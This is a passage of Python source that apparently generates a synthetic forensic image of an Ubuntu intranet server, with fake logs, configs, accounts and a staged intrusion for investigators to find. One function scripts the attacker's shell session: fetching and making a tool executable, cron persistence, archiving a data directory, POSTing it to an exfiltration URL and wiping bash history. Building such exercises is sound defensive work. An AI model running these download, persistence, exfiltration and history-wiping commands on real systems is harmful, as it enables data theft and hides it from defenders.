    srv.log(
        "syslog",
        logged + secs(0.01),
        "rsyslogd",
        f'[origin software="rsyslogd" swVersion="8.2112.0" x-pid="{DAEMONS[1]["rsyslogd"]}"] start',
    )
    srv.systemd(logged + secs(0.02), *BOOT_UNITS)
    for text in ("New seat seat0.", "Watching system buttons on /dev/input/event0 (Power Button)",
                 "Watching system buttons on /dev/input/event1 (AT Translated Set 2 keyboard)"):  # fmt: skip
        srv.log("auth.log", logged + secs(0.6), "systemd-logind", text, daemon("systemd-logind", BOOT))
    for text in ("Server listening on 0.0.0.0 port 22.", "Server listening on :: port 22."):
        srv.log("auth.log", logged + secs(0.9), "sshd", text, daemon("sshd", BOOT))
    for text in ("(CRON) INFO (pidfile fd = 3)", "(CRON) INFO (Running @reboot jobs)"):
        srv.log("syslog", logged + secs(0.8), "cron", text, daemon("cron", BOOT))
    app.start(logged + secs(1.1))
    srv.wtmp.append(Utmp(1, BOOT + secs(10.2), 53, "~", "~~", "runlevel", KERNEL))
    synced = BOOT + secs(41.7)
    srv.log("syslog", synced, "systemd-timesyncd", f"Initial synchronization to time server {story.GATEWAY.ip}:123 "
            f"({story.GATEWAY.fqdn}).", daemon("systemd-timesyncd", synced))  # fmt: skip


# --- nginx --------------------------------------------------------------------------------------

BROWSERS = {
    story.WS01.ip: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/145.0.0.0 Safari/537.36 Edg/145.0.0.0",
    BOB_LAPTOP: "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:148.0) Gecko/20100101 Firefox/148.0",
}
WIN_UAS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 "
    "Safari/537.36 Edg/145.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:148.0) Gecko/20100101 Firefox/148.0",
)
#: Share of the peak hour's traffic by local hour on a working day.
HOURLY = {
    7: 0.2,
    8: 0.8,
    9: 1.0,
    10: 1.0,
    11: 0.9,
    12: 0.5,
    13: 0.8,
    14: 1.0,
    15: 0.9,
    16: 0.7,
    17: 0.4,
    18: 0.15,
}
PEAK_VIEWS = 110  # page views in a peak hour, at scale 1
MONITOR_UA = "check_http/v2.3.3 (monitoring-plugins 2.3.3)"
CI_UA = "curl/7.81.0"


@dataclass(eq=False)
class Hit:
    """One request nginx answered, and the error.log message it caused, if any."""

    time: datetime
    client: str
    request: str
    status: int
    size: int
    referer: str
    agent: str
    error: str = ""


def _page_view(r: random.Random, t: datetime, client: str, agent: str, fresh: bool) -> list[Hit]:
    """A person opening one page of the intranet app: the page, its assets and its API calls."""
    base = f"http://{INTRANET}"
    kind = r.choices(("home", "invoices", "invoice", "customers", "report"), (3, 4, 3, 2, 1))[0]
    inv = f"INV-2026-{r.randint(0, 299):04d}"
    page, api = {
        "home": ("/", "/api/notifications"),
        "invoices": (
            f"/invoices?page={r.randint(1, 6)}",
            f"/api/invoices?page={r.randint(1, 6)}&per_page=50",
        ),
        "invoice": (f"/invoices/{inv}", f"/api/invoices/{inv}"),
        "customers": ("/customers", "/api/customers?active=1"),
        "report": ("/reports/monthly?month=2026-02", "/api/reports/monthly?month=2026-02"),
    }[kind]
    hits = [Hit(t, client, f"GET {page} HTTP/1.1", 200, r.randint(7_400, 12_900), f"{base}/", agent)]
    for asset, size in (("/static/css/app.css", 48_211), ("/static/js/app.js", 181_904)):
        status = 200 if fresh else 304
        hits.append(
            Hit(
                t + secs(0.05),
                client,
                f"GET {asset} HTTP/1.1",
                status,
                size if fresh else 0,
                base + page,
                agent,
            )
        )
    if fresh and client != BOB_LAPTOP and r.random() < 0.3:
        error = 'open() "/srv/webapp/static/img/logo@2x.png" failed (2: No such file or directory)'
        hits.append(Hit(t + secs(0.08), client, "GET /static/img/logo@2x.png HTTP/1.1", 404, 162, base + page, agent,
                        error))  # fmt: skip
    hits.append(
        Hit(t + secs(0.21), client, f"GET {api} HTTP/1.1", 200, r.randint(900, 41_000), base + page, agent)
    )
    return hits


def _nginx(srv: Server, restarts: list[datetime]) -> list[Hit]:
    """The intranet's requests over both days: people at work, the monitor, deploy checks."""
    r, hits = srv.r, []
    clients = [story.WS01.ip, BOB_LAPTOP] + [f"10.20.0.{n}" for n in range(41, 60)]
    agents = {c: BROWSERS.get(c, WIN_UAS[int(c.rsplit(".", 1)[1]) % 3]) for c in clients}
    seen: set[tuple[str, int]] = set()
    hour = story.START
    while hour < story.COLLECTED:
        views = round(PEAK_VIEWS * srv.scale * HOURLY.get(local(hour).hour, 0.0) * r.uniform(0.8, 1.2))
        for _ in range(views):
            t = hour + secs(r.uniform(0, 3600))
            client = r.choices(clients, [3, 1, *([2] * 19)])[0]
            if _down(t):
                continue
            fresh = (client, local(t).day) not in seen
            seen.add((client, local(t).day))
            if fresh:
                hits.append(Hit(t - secs(8.4), client, "POST /login HTTP/1.1", 302, 189, f"http://{INTRANET}/login",
                                agents[client]))  # fmt: skip
            hits.extend(_page_view(r, t, client, agents[client], fresh))
        hour += timedelta(hours=1)
    t = story.START + secs(r.uniform(0, 300))
    while t < story.COLLECTED:
        if not _down(t):
            hits.append(Hit(t, MONITOR, "GET /healthz HTTP/1.1", 200, 15, "-", MONITOR_UA))
        t += secs(300 / srv.scale + r.uniform(-0.4, 0.4))
    for t in restarts:
        hits.append(Hit(t + secs(0.4), r.choice(clients[2:]), "GET /api/notifications HTTP/1.1", 502, 166,
                        f"http://{INTRANET}/", WIN_UAS[0], "connect() failed (111: Connection refused) while "
                        "connecting to upstream"))  # fmt: skip
        hits.append(Hit(t + secs(4.2), CI_RUNNER, "GET /healthz HTTP/1.1", 200, 15, "-", CI_UA))
    return sorted(hits, key=lambda h: h.time)


@dataclass
class TextLog:
    """A plain-text log file's lines and when it was last written."""

    lines: list[str] = field(default_factory=list)
    last: datetime = story.START

    def add(self, t: datetime, line: str) -> None:
        self.lines.append(line)
        self.last = max(self.last, t)


def _render_nginx(hits: list[Hit]) -> dict[str, TextLog]:
    """access.log and error.log, each with yesterday's part rotated to ``.1`` at local midnight;
    error.log names the worker and the connection number (counted from nginx's start)."""
    files = {name: TextLog() for name in ("access.log.1", "access.log", "error.log.1", "error.log")}
    conn = 0
    for i, h in enumerate(hits):
        if i and hits[i - 1].time < BOOT <= h.time:
            conn = 0
        conn += 1
        lt, suffix = local(h.time), ".1" if h.time < ROTATED else ""
        when = f"{lt.day:02d}/{MONTHS[lt.month - 1]}/{lt.year}:{lt:%H:%M:%S %z}"
        files["access.log" + suffix].add(
            h.time, f'{h.client} - - [{when}] "{h.request}" {h.status} {h.size} "{h.referer}" "{h.agent}"'
        )
        if h.error:
            worker = DAEMONS[h.time >= BOOT]["nginx"] + 1 + conn % 2
            upstream = f', upstream: "http://127.0.0.1:8000{h.request.split()[1]}"' if h.status == 502 else ""
            files["error.log" + suffix].add(
                h.time,
                f"{lt:%Y/%m/%d %H:%M:%S} [error] {worker}#{worker}: *{conn} {h.error}, client: {h.client}, "
                f'server: {INTRANET}, request: "{h.request}"{upstream}, host: "{INTRANET}", referrer: "{h.referer}"',
            )
    return files


# --- packages -----------------------------------------------------------------------------------

UPGRADES = (
    ("libssl3", "3.0.2-0ubuntu1.19", "3.0.2-0ubuntu1.20"),
    ("openssl", "3.0.2-0ubuntu1.19", "3.0.2-0ubuntu1.20"),
    ("libcurl4", "7.81.0-1ubuntu1.20", "7.81.0-1ubuntu1.21"),
    ("curl", "7.81.0-1ubuntu1.20", "7.81.0-1ubuntu1.21"),
    ("linux-image-generic", "5.15.0.101.99", "5.15.0.105.102"),
    ("linux-generic", "5.15.0.101.99", "5.15.0.105.102"),
)
INSTALLS = (
    ("linux-modules-5.15.0-105-generic", "5.15.0-105.115"),
    ("linux-image-5.15.0-105-generic", "5.15.0-105.115"),
)


def _packages(start: datetime, end: datetime) -> tuple[list[str], list[str]]:
    """apt's history.log entry and dpkg.log lines of bob's Monday ``apt upgrade`` (local time)."""
    day = f"{local(start):%Y-%m-%d}"
    ups = ", ".join(f"{p}:amd64 ({old}, {new})" for p, old, new in UPGRADES)
    ins = ", ".join(f"{p}:amd64 ({v}, automatic)" for p, v in INSTALLS)
    history = ["", f"Start-Date: {day}  {local(start):%H:%M:%S}", "Commandline: apt upgrade",
               "Requested-By: bob (1001)", f"Install: {ins}", f"Upgrade: {ups}", f"End-Date: {day}  {local(end):%H:%M:%S}"]  # fmt: skip
    t, dpkg = start + secs(3.2), []

    def say(text: str, dt: float = 0.35) -> None:
        nonlocal t
        dpkg.append(f"{local(t):%Y-%m-%d %H:%M:%S} {text}")
        t += secs(dt)

    say("startup archives unpack")
    for p, v in INSTALLS:
        say(f"install {p}:amd64 <none> {v}")
        say(f"status half-installed {p}:amd64 {v}")
        say(f"status unpacked {p}:amd64 {v}", 6.0)
    for p, old, new in UPGRADES:
        say(f"upgrade {p}:amd64 {old} {new}")
        for status in ("half-configured", "unpacked", "half-installed"):
            say(f"status {status} {p}:amd64 {old}")
        say(f"status unpacked {p}:amd64 {new}", 1.1)
    say("startup packages configure")
    for p, v in (*INSTALLS, *((p, new) for p, _, new in UPGRADES)):
        say(f"configure {p}:amd64 {v} <none>")
        for status in ("unpacked", "half-configured", "installed"):
            say(
                f"status {status} {p}:amd64 {v}",
                4.0 if p.startswith("linux-image-5") and status == "installed" else 0.3,
            )
    say("trigproc libc-bin:amd64 2.35-0ubuntu3.8 <none>")
    say("status half-configured libc-bin:amd64 2.35-0ubuntu3.8")
    say("status installed libc-bin:amd64 2.35-0ubuntu3.8")
    return history, dpkg


# --- shell histories ----------------------------------------------------------------------------


def _attack_commands(plan: Attack) -> list[tuple[datetime, str, str]]:
    """The attacker's session, in order: (time, command, step it shows or "")."""
    s = plan.step
    t11, t12, t15, t16 = s("S11").time, s("S12").time, s("S15").time, s("S16").time
    return [
        (t11 + secs(19.4), "id", ""),
        (t11 + secs(24.1), "uname -a", ""),
        (t11 + secs(39.8), f"ls -la {story.DATA_DIR}", ""),
        (t12, f"curl -s {story.TOOL_URL} -o {story.TOOL_PATH}", "S12"),
        (t12 + secs(6.2), f"chmod +x {story.TOOL_PATH}", ""),
        (s("S13").time, f'(crontab -l 2>/dev/null; echo "{story.CRON_LINE}") | crontab -', "S13"),
        (s("S14").time, f"sudo tar czf {story.ARCHIVE_PATH} {story.DATA_DIR}", "S14"),
        (t15, f"curl -s -X POST --data-binary @{story.ARCHIVE_PATH} {story.EXFIL_URL}", "S15"),
        (t15 + secs(93.1), f"rm -f {story.ARCHIVE_PATH}", ""),
        (t16, "cat /dev/null > ~/.bash_history", "S16"),
        (t16 + LOGOUT_AFTER, "exit", ""),
    ]


DEPLOY_OLD = (
    "cd /srv/webapp", "git status", "git log --oneline -5", "python3 -m venv .venv", ".venv/bin/pip install -r requirements.txt",
    "sudo systemctl restart webapp", "systemctl status webapp --no-pager", "curl -s http://127.0.0.1:8000/healthz",
    "ls -la /srv/data/finance", "du -sh /srv/data", "git pull --ff-only", ".venv/bin/pip install -r requirements.txt",
    "sudo systemctl restart webapp", "exit",
)  # fmt: skip
DEPLOY_RUN = ("cd /srv/webapp", "git pull --ff-only", "sudo systemctl restart webapp", "systemctl status webapp --no-pager",
              "curl -s http://127.0.0.1:8000/healthz", "exit")  # fmt: skip
ROOT_HISTORY = (
    "apt update", "apt install -y nginx python3-venv sysstat", "adduser bob", "usermod -aG sudo,adm bob",
    "adduser --disabled-password --gecos 'Web app deploy' deploy", "mkdir -p /srv/data /srv/webapp",
    "chown -R deploy:deploy /srv/data /srv/webapp", "chmod 750 /srv/data", "visudo -f /etc/sudoers.d/deploy",
    "systemctl daemon-reload", "systemctl enable --now webapp data-backup.timer", "ufw allow OpenSSH",
    "ufw allow 'Nginx HTTP'", "ufw enable", "nginx -t && systemctl reload nginx", "exit",
)  # fmt: skip


# --- the file tree ------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Node:
    """One inode of the image: a file (``data``), a directory or a symlink (``link``)."""

    path: str
    data: bytes | None = None
    link: str = ""
    owner: str = "root"
    group: str = "root"
    mode: int = 0o644
    mtime: datetime = INSTALLED
    atime: datetime | None = None
    ctime: datetime | None = None
    crtime: datetime | None = None

    @property
    def kind(self) -> int:
        return 0o120000 if self.link else 0o040000 if self.data is None else 0o100000


class Tree:
    """The server's files by path; parent folders appear as root-owned 0755 when not declared."""

    def __init__(self) -> None:
        self.nodes: dict[str, Node] = {}

    def add(self, path: str, data: bytes | str | None = None, **kw: object) -> None:
        raw = data.encode() if isinstance(data, str) else data
        self.nodes[path] = Node(path, raw, **kw)  # type: ignore[arg-type]

    def dir(self, path: str, **kw: object) -> None:
        self.nodes[path] = Node(path, None, mode=kw.pop("mode", 0o755), **kw)  # type: ignore[arg-type]

    def link(self, path: str, target: str, **kw: object) -> None:
        self.nodes[path] = Node(path, None, link=target, mode=0o777, **kw)  # type: ignore[arg-type]

    def all(self) -> list[Node]:
        """Every node, parents included, sorted by path."""
        for path in list(self.nodes):
            parent = os.path.dirname(path)
            while parent != "/" and parent not in self.nodes:
                self.nodes[parent] = Node(parent, None, mode=0o755)
                parent = os.path.dirname(parent)
        return [self.nodes[p] for p in sorted(self.nodes)]


def _tzif(posix: str, name: str, offset: int) -> bytes:
    """A version-2 TZif file with no transitions, only the POSIX rule (RFC 8536)."""
    counts = struct.pack(">6I", 0, 0, 0, 0, 1, len(name) + 1)
    block = struct.pack(">ib", offset, 0) + b"\x00" + name.encode() + b"\x00"
    header = b"TZif2" + bytes(15) + counts
    return header + block + header + block + f"\n{posix}\n".encode()


def _etc(tree: Tree, seed: int, fs_uuid: str, keys: dict[str, str]) -> None:
    """/etc: identity, accounts, time zone, cron, sshd, systemd units, nginx, sudo."""
    r = story.rng(seed, "srv01-etc")
    tree.add("/etc/hostname", f"{HOSTNAME}\n")
    tree.add("/etc/hosts", f"127.0.0.1 localhost\n127.0.1.1 {story.SRV01.fqdn} {HOSTNAME}\n"
             f"{story.SRV01.ip} {story.SRV01.fqdn} {HOSTNAME} {INTRANET}\n\n"
             "# The following lines are desirable for IPv6 capable hosts\n::1     ip6-localhost ip6-loopback\n"
             "fe00::0 ip6-localnet\nff00::0 ip6-mcastprefix\nff02::1 ip6-allnodes\nff02::2 ip6-allrouters\n")  # fmt: skip
    tree.add("/usr/lib/os-release", 'PRETTY_NAME="Ubuntu 22.04.4 LTS"\nNAME="Ubuntu"\nVERSION_ID="22.04"\n'
             'VERSION="22.04.4 LTS (Jammy Jellyfish)"\nVERSION_CODENAME=jammy\nID=ubuntu\nID_LIKE=debian\n'
             "UBUNTU_CODENAME=jammy\n", mtime=datetime(2024, 2, 16, 11, 4, 2, tzinfo=UTC))  # fmt: skip
    tree.link("/etc/os-release", "../usr/lib/os-release")
    tree.add("/etc/lsb-release", 'DISTRIB_ID=Ubuntu\nDISTRIB_RELEASE=22.04\nDISTRIB_CODENAME=jammy\n'
             'DISTRIB_DESCRIPTION="Ubuntu 22.04.4 LTS"\n')  # fmt: skip
    tree.add("/etc/debian_version", "bookworm/sid\n")
    tree.add("/etc/timezone", f"{story.SRV01.timezone}\n")
    tree.link("/etc/localtime", f"/usr/share/zoneinfo/{story.SRV01.timezone}")
    tree.add(f"/usr/share/zoneinfo/{story.SRV01.timezone}", _tzif("CET-1CEST,M3.5.0,M10.5.0/3", "CET", 3600))
    tree.add("/etc/default/locale", "LANG=en_US.UTF-8\n")
    tree.add("/etc/machine-id", f"{r.getrandbits(128):032x}\n", mode=0o444)
    tree.add("/etc/fstab", f"# /etc/fstab: static file system information.\nUUID={fs_uuid} / ext4 defaults 0 1\n"
             "/swap.img\tnone\tswap\tsw\t0\t0\n")  # fmt: skip
    tree.add("/etc/sysctl.conf", "# /etc/sysctl.conf - Configuration file for setting system variables\n"
             "#net.ipv4.ip_forward=1\n")  # fmt: skip
    tree.add("/etc/netplan/00-installer-config.yaml", f"network:\n  ethernets:\n    ens3:\n      addresses:\n"
             f"      - {story.SRV01.ip}/24\n      nameservers:\n        addresses:\n        - {story.DC01.ip}\n"
             f"        search:\n        - {story.DOMAIN}\n      routes:\n      - to: default\n        via: {story.GATEWAY.ip}\n"
             "  version: 2\n", mode=0o600)  # fmt: skip
    _accounts(tree, r)
    _services(tree)
    keyed = {"bob": (INSTALLED + timedelta(minutes=21), "admin-laptop"), "deploy": (ACCOUNTS, "ci-runner")}
    for user, (when, origin) in keyed.items():
        tree.dir(f"/home/{user}/.ssh", owner=user, group=user, mode=0o700, mtime=when)
        tree.add(f"/home/{user}/.ssh/authorized_keys", f"{keys[user + '_line']} {user}@{origin}\n", owner=user,
                 group=user, mode=0o600, mtime=when)  # fmt: skip


PASSWD = """root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
bin:x:2:2:bin:/bin:/usr/sbin/nologin
sys:x:3:3:sys:/dev:/usr/sbin/nologin
sync:x:4:65534:sync:/bin:/bin/sync
man:x:6:12:man:/var/cache/man:/usr/sbin/nologin
mail:x:8:8:mail:/var/mail:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
backup:x:34:34:backup:/var/backups:/usr/sbin/nologin
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
_apt:x:100:65534::/nonexistent:/usr/sbin/nologin
systemd-network:x:101:102:systemd Network Management,,,:/run/systemd:/usr/sbin/nologin
systemd-resolve:x:102:103:systemd Resolver,,,:/run/systemd:/usr/sbin/nologin
messagebus:x:103:104::/nonexistent:/usr/sbin/nologin
systemd-timesync:x:104:105:systemd Time Synchronization,,,:/run/systemd:/usr/sbin/nologin
pollinate:x:105:1::/var/cache/pollinate:/bin/false
sshd:x:106:65534::/run/sshd:/usr/sbin/nologin
syslog:x:107:113::/home/syslog:/usr/sbin/nologin
uuidd:x:108:114::/run/uuidd:/usr/sbin/nologin
tcpdump:x:109:115::/nonexistent:/usr/sbin/nologin
landscape:x:111:117::/var/lib/landscape:/usr/sbin/nologin
srvadmin:x:1000:1000:srvadmin:/home/srvadmin:/bin/bash
bob:x:1001:1001:Bob (IT),,,:/home/bob:/bin/bash
deploy:x:1002:1002:Web app deploy,,,:/home/deploy:/bin/bash
"""
GROUPS = """root:x:0:
daemon:x:1:
bin:x:2:
sys:x:3:
adm:x:4:syslog,srvadmin,bob
tty:x:5:
disk:x:6:
man:x:12:
sudo:x:27:srvadmin,bob
www-data:x:33:deploy
backup:x:34:
shadow:x:42:
utmp:x:43:
users:x:100:
nogroup:x:65534:
systemd-journal:x:101:
systemd-network:x:102:
systemd-resolve:x:103:
messagebus:x:104:
systemd-timesync:x:105:
_ssh:x:111:
crontab:x:112:
syslog:x:113:
uuidd:x:114:
tcpdump:x:115:
landscape:x:117:
srvadmin:x:1000:
bob:x:1001:
deploy:x:1002:
"""


def _accounts(tree: Tree, r: random.Random) -> None:
    """passwd, group and shadow (yescrypt-shaped fake hashes), sudoers."""
    alphabet = "./0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
    shadow = []
    for entry in PASSWD.splitlines():
        name, uid = entry.split(":")[0], int(entry.split(":")[2])
        secret = "*"
        if name in ("srvadmin", "bob", "deploy"):
            salt, digest = ("".join(r.choice(alphabet) for _ in range(n)) for n in (22, 43))
            secret = f"$y$j9T${salt}${digest}"
        elif name == "root":
            secret = "!"
        changed = 20251 if uid < 1000 or name == "srvadmin" else 20334
        shadow.append(f"{name}:{secret}:{changed}:0:99999:7:::")
    tree.add("/etc/passwd", PASSWD, mtime=ACCOUNTS)
    tree.add("/etc/group", GROUPS, mtime=ACCOUNTS)
    tree.add("/etc/shadow", "\n".join(shadow) + "\n", group="shadow", mode=0o640, mtime=ACCOUNTS)
    tree.add("/etc/sudoers", "Defaults\tenv_reset\nDefaults\tmail_badpass\nDefaults\tuse_pty\n\n"
             "root\tALL=(ALL:ALL) ALL\n%admin ALL=(ALL) ALL\n%sudo\tALL=(ALL:ALL) ALL\n\n@includedir /etc/sudoers.d\n",
             mode=0o440)  # fmt: skip
    tree.add("/etc/sudoers.d/deploy", "deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart webapp\n",
             mode=0o440, mtime=ACCOUNTS)  # fmt: skip


SSHD_CONFIG = """# This is the sshd server system-wide configuration file.  See
# sshd_config(5) for more information.

Include /etc/ssh/sshd_config.d/*.conf

#Port 22
#ListenAddress 0.0.0.0
#PermitRootLogin prohibit-password
#PubkeyAuthentication yes
# Passwords stay allowed: the backup NAS and a few admin tools cannot use keys.
#PasswordAuthentication yes
#PermitEmptyPasswords no
KbdInteractiveAuthentication no
UsePAM yes
X11Forwarding yes
PrintMotd no
AcceptEnv LANG LC_*
Subsystem\tsftp\t/usr/lib/openssh/sftp-server
"""
SYSTEM_CRONTAB = """# /etc/crontab: system-wide crontab
# Unlike any other crontab you don't have to run the `crontab'
# command to install the new version when you edit this file
# and files in /etc/cron.d. These files also have username fields,
# that none of the other crontabs do.

SHELL=/bin/sh
# You can also override PATH, but by default, newer versions inherit it from the environment
#PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

# Example of job definition:
# .---------------- minute (0 - 59)
# |  .------------- hour (0 - 23)
# |  |  .---------- day of month (1 - 31)
# |  |  |  .------- month (1 - 12) OR jan,feb,mar,apr ...
# |  |  |  |  .---- day of week (0 - 6) (Sunday=0 or 7) OR sun,mon,tue,wed,thu,fri,sat
# |  |  |  |  |
# *  *  *  *  * user-name command to be executed
17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly
25 6\t* * *\troot\ttest -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )
47 6\t* * 7\troot\ttest -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.weekly )
52 6\t1 * *\troot\ttest -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.monthly )
#
"""
WEBAPP_UNIT = """[Unit]
Description=Intranet web application (gunicorn)
After=network.target

[Service]
User=deploy
Group=www-data
WorkingDirectory=/srv/webapp
Environment=DATA_DIR=/srv/data
ExecStart=/srv/webapp/.venv/bin/gunicorn --workers 3 --bind 127.0.0.1:8000 app:app
Restart=on-failure

[Install]
WantedBy=multi-user.target
"""
BACKUP_UNIT = f"""[Unit]
Description=Nightly copy of /srv/data to the NAS

[Service]
Type=oneshot
ExecStart=/usr/bin/rsync -a --delete /srv/data/ backup@{NAS}::srvdata/
"""
BACKUP_TIMER = """[Unit]
Description=Nightly copy of /srv/data to the NAS

[Timer]
OnCalendar=*-*-* 02:30:00
Persistent=true

[Install]
WantedBy=timers.target
"""
NGINX_SITE = f"""server {{
    listen 80 default_server;
    server_name {INTRANET};

    location /static/ {{
        alias /srv/webapp/static/;
        expires 7d;
    }}

    location / {{
        proxy_pass http://127.0.0.1:8000;
        proxy_set_header Host $host;
        proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;
    }}
}}
"""
NGINX_CONF = """user www-data;
worker_processes auto;
pid /run/nginx.pid;
include /etc/nginx/modules-enabled/*.conf;

events {
\tworker_connections 768;
}

http {
\tsendfile on;
\ttcp_nopush on;
\ttypes_hash_max_size 2048;
\tinclude /etc/nginx/mime.types;
\tdefault_type application/octet-stream;
\taccess_log /var/log/nginx/access.log;
\terror_log /var/log/nginx/error.log;
\tgzip on;
\tinclude /etc/nginx/conf.d/*.conf;
\tinclude /etc/nginx/sites-enabled/*;
}
"""


def _services(tree: Tree) -> None:
    """sshd, cron, the systemd units of the web app and backup, nginx."""
    tree.add("/etc/ssh/sshd_config", SSHD_CONFIG)
    tree.dir("/etc/ssh/sshd_config.d")
    tree.add("/etc/crontab", SYSTEM_CRONTAB)
    tree.add("/etc/cron.d/sysstat", "# The first element of the path is a directory where the debian-sa1\n# script is located\n"
             "PATH=/usr/lib/sysstat:/usr/sbin:/usr/sbin:/usr/bin:/sbin:/bin\n\n"
             "# Activity reports every 10 minutes everyday\n"
             "5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1\n\n"
             "# Additional run at 23:59 to rotate the statistics file\n"
             "59 23 * * * root command -v debian-sa1 > /dev/null && debian-sa1 60 2\n")  # fmt: skip
    tree.add("/etc/systemd/system/webapp.service", WEBAPP_UNIT, mtime=ACCOUNTS + timedelta(minutes=31))
    tree.add("/etc/systemd/system/data-backup.service", BACKUP_UNIT, mtime=ACCOUNTS + timedelta(minutes=35))
    tree.add("/etc/systemd/system/data-backup.timer", BACKUP_TIMER, mtime=ACCOUNTS + timedelta(minutes=35))
    tree.link("/etc/systemd/system/multi-user.target.wants/webapp.service", "/etc/systemd/system/webapp.service",
              mtime=ACCOUNTS + timedelta(minutes=38))  # fmt: skip
    tree.link("/etc/systemd/system/timers.target.wants/data-backup.timer", "/etc/systemd/system/data-backup.timer",
              mtime=ACCOUNTS + timedelta(minutes=38))  # fmt: skip
    tree.add("/etc/nginx/nginx.conf", NGINX_CONF)
    tree.add("/etc/nginx/sites-available/intranet", NGINX_SITE, mtime=ACCOUNTS + timedelta(minutes=44))
    tree.link("/etc/nginx/sites-enabled/intranet", "/etc/nginx/sites-available/intranet",
              mtime=ACCOUNTS + timedelta(minutes=44))  # fmt: skip


def _homes(tree: Tree, plan: Attack, bash: dict[str, list[str]], deploy_last: datetime) -> None:
    """Home folders with their shell startup files and histories."""
    profile = (
        "# ~/.profile: executed by the command interpreter for login shells.\n"
        'if [ -n "$BASH_VERSION" ] && [ -f "$HOME/.bashrc" ]; then\n    . "$HOME/.bashrc"\nfi\n'
    )
    bashrc = (  # histappend: bash appends a session's commands at logout (what refilled bob's history)
        "# ~/.bashrc: executed by bash(1) for non-login shells.\ncase $- in\n    *i*) ;;\n      *) return;;\n"
        "esac\nHISTCONTROL=ignoreboth\nshopt -s histappend\nHISTSIZE=1000\nHISTFILESIZE=2000\n"
    )
    homes = {"srvadmin": INSTALLED, "bob": INSTALLED + timedelta(minutes=16), "deploy": ACCOUNTS}
    for user, made in homes.items():
        tree.dir(f"/home/{user}", owner=user, group=user, mode=0o750, mtime=made)
        tree.add(f"/home/{user}/.profile", profile, owner=user, group=user, mtime=made)
        tree.add(f"/home/{user}/.bashrc", bashrc, owner=user, group=user, mtime=made)
    tree.add(
        "/home/bob/.sudo_as_admin_successful",
        b"",
        owner="bob",
        group="bob",
        mtime=INSTALLED + timedelta(hours=1),
    )
    s = plan.step
    logout = s("S16").time + LOGOUT_AFTER + secs(0.002)
    tree.add("/home/bob/.bash_history", "\n".join(bash["bob"]) + "\n", owner="bob", group="bob", mode=0o600,
             mtime=logout, atime=s("S11").time + secs(0.52), crtime=INSTALLED + timedelta(hours=1, minutes=2))  # fmt: skip
    tree.add("/home/deploy/.bash_history", "\n".join(bash["deploy"]) + "\n", owner="deploy", group="deploy",
             mode=0o600, mtime=deploy_last, crtime=ACCOUNTS + timedelta(minutes=9))  # fmt: skip
    tree.dir("/root", mode=0o700, mtime=ACCOUNTS + timedelta(hours=1))
    tree.add(
        "/root/.bash_history", "\n".join(bash["root"]) + "\n", mode=0o600, mtime=ACCOUNTS + timedelta(hours=1)
    )


def _attack_files(tree: Tree, plan: Attack) -> None:
    """What the attacker left: the tool in /tmp and bob's crontab (the archive was deleted)."""
    s = plan.step
    t12, t13 = s("S12").time, s("S13").time
    chmod = t12 + secs(6.2)
    first_run = _next_ten(t13) + secs(1.0)
    tree.add(story.TOOL_PATH, payloads.tool(), owner="bob", group="bob", mode=0o755, mtime=t12 + secs(1),
             atime=first_run, ctime=chmod, crtime=t12 + secs(0.05))  # fmt: skip
    tree.dir("/tmp", mode=0o1777, mtime=s("S15").time + secs(93.1), atime=BOOT + timedelta(minutes=15))
    lt = local(t13)
    installed = f"{DAYS[lt.weekday()]} {MONTHS[lt.month - 1]} {lt.day:2d} {lt:%H:%M:%S} {lt.year}"
    crontab = ("# DO NOT EDIT THIS FILE - edit the master and reinstall.\n"
               f"# (- installed on {installed})\n"
               "# (Cron version -- $Id: crontab.c,v 2.13 1994/01/17 03:20:37 vixie Exp $)\n"
               f"{story.CRON_LINE}\n")  # fmt: skip
    reload_at = t13.replace(second=1, microsecond=0) + timedelta(minutes=1)
    tree.add("/var/spool/cron/crontabs/bob", crontab, owner="bob", group="crontab", mode=0o600, mtime=t13,
             atime=reload_at)  # fmt: skip
    tree.dir("/var/spool/cron/crontabs", group="crontab", mode=0o1730, mtime=t13)


def _data(tree: Tree, plan: Attack) -> None:
    """/srv/data (read by tar at S14, so its atimes are S14's) and the web app's code."""
    read = plan.step("S14").time
    owner = payloads.DATA_OWNER[1]
    for i, (name, data) in enumerate(sorted(payloads.data_files().items())):
        tree.add(f"{story.DATA_DIR}/{name}", data, owner=owner, group=owner, mode=0o640,
                 mtime=payloads.data_mtime(name), atime=read + secs(0.05 + 0.02 * i))  # fmt: skip
    for sub, newest in (("", "README"), ("/contracts", "README"), ("/finance", "2026-Q1")):
        made = payloads.data_mtime(newest)
        tree.dir(f"{story.DATA_DIR}{sub}", owner=owner, group=owner, mode=0o750, mtime=made, atime=read)
    app = ACCOUNTS + timedelta(days=96, hours=3)
    tree.add("/srv/webapp/app.py", "from intranet import create_app\n\napp = create_app()\n", owner="deploy",
             group="deploy", mtime=app)  # fmt: skip
    tree.add("/srv/webapp/requirements.txt", "flask==3.0.3\ngunicorn==20.1.0\n", owner="deploy", group="deploy",
             mtime=app)  # fmt: skip
    tree.add("/srv/webapp/static/css/app.css", "body{font-family:sans-serif}\n", owner="deploy", group="deploy",
             mtime=app)  # fmt: skip
